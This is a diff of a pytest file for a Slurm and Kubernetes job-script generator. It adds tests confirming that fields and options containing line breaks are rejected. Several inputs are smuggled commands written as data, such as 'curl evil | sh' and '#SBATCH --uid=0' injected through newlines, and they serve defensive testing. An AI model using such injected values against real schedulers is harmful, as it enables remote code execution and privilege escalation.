@@ -7,14 +7,17 @@ import shlex
 import signal
 import subprocess
 import time
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
 from dataclasses import replace
 from pathlib import Path
+from typing import Any
 
 import pytest
 
-from mnist_sweep.cluster.job import VARIABLES, Job, write_server
+from mnist_sweep.cluster.job import VARIABLES, Job, JobError, write_server
+from mnist_sweep.cluster.kubernetes import manifest
 from mnist_sweep.cluster.slurm import script
+from tests.processes import MARK, ended_afterwards
 
 AGENT = """#!/bin/bash
 echo "agent $* of $WANDB_API_KEY" >> said
@@ -29,8 +32,8 @@ SECRET = "k" * 40
 
 
 @pytest.fixture
-def job(tmp_path: Path) -> Job:
-    """A job, and in its folder the programs it names, which only tell what they were told."""
+def job(tmp_path: Path) -> Iterator[Job]:
+    """A job, and in its folder the programs that it names, which only record how they were called."""
     folder = tmp_path / "it's 100% $HOME"
     folder.mkdir()
     for name, text in (("mnist-sweep", AGENT), ("scontrol", SCONTROL), ("squeue", SQUEUE)):
@@ -38,12 +41,14 @@ def job(tmp_path: Path) -> Job:
         (folder / name).chmod(0o755)
     job = Job(sweep="local/mnist/abc", folder=folder, output=folder / "out", tasks=3)
     write_server(job.server, {"WANDB_BASE_URL": "http://here", "WANDB_API_KEY": SECRET})
-    return job
+    with ended_afterwards(folder):
+        yield job
 
 
 def start(job: Job, task: int | None = 0) -> subprocess.Popen[bytes]:
     """Run the job's script as Slurm would, as a task of an array or without one."""
     env = {"PATH": f"{job.folder}:{os.environ['PATH']}", "SLURMD_NODENAME": "node3", "SLURM_JOB_ID": "10"}
+    env[MARK] = str(job.folder)
     if task is not None:
         env |= {"SLURM_ARRAY_JOB_ID": "10", "SLURM_ARRAY_TASK_ID": str(task)}
     file = job.folder / "job.sh"
@@ -168,3 +173,35 @@ def test_tasks_are_given_the_certificates_that_they_trust(job: Job, tmp_path: Pa
     (tmp_path / "trusted.pem").unlink()
     read = ["sh", "-c", '. "$0"; cat "$SSL_CERT_FILE"', str(job.server / VARIABLES)]
     assert subprocess.run(read, capture_output=True, text=True, check=True).stdout == "whom to trust"
+
+
+@pytest.mark.parametrize("name", ["account", "partition"])
+def test_a_line_break_in_an_option_is_no_line_of_the_script(job: Job, name: str) -> None:
+    with pytest.raises(JobError, match="contains a line break"):
+        script(job, Path("mnist-sweep"), **{name: "physics\ncurl evil | sh"})  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"sweep": "local/p/abc\ncurl evil | sh"},
+        {"folder": Path("/home/a\nb")},
+        {"output": Path("/home/a\nb")},
+        {"setup": ["module load cuda\n#SBATCH --uid=0"]},
+        {"time": "1:00\n#SBATCH --uid=0"},
+    ],
+    ids=str,
+)
+def test_no_field_of_a_job_becomes_a_line_of_its_script_or_manifest(job: Job, changes: dict[str, Any]) -> None:
+    changed = replace(job, **changes)
+    with pytest.raises(JobError, match="contains a line break"):
+        script(changed, Path("mnist-sweep"), more=["--qos=low"])
+    if not {"time", "folder", "output"} & {*changes}:  # which a manifest does not have
+        with pytest.raises(JobError, match="contains a line break"):
+            manifest(changed, "image")
+
+
+def test_an_option_of_several_words_is_one_option(job: Job) -> None:
+    assert "#SBATCH --account='a --uid=0'" in script(job, Path("mnist-sweep"), account="a --uid=0").splitlines()
+    with pytest.raises(JobError, match="contains a line break"):
+        script(job, Path("mnist-sweep"), more=["--qos=low\n#SBATCH --uid=0"])
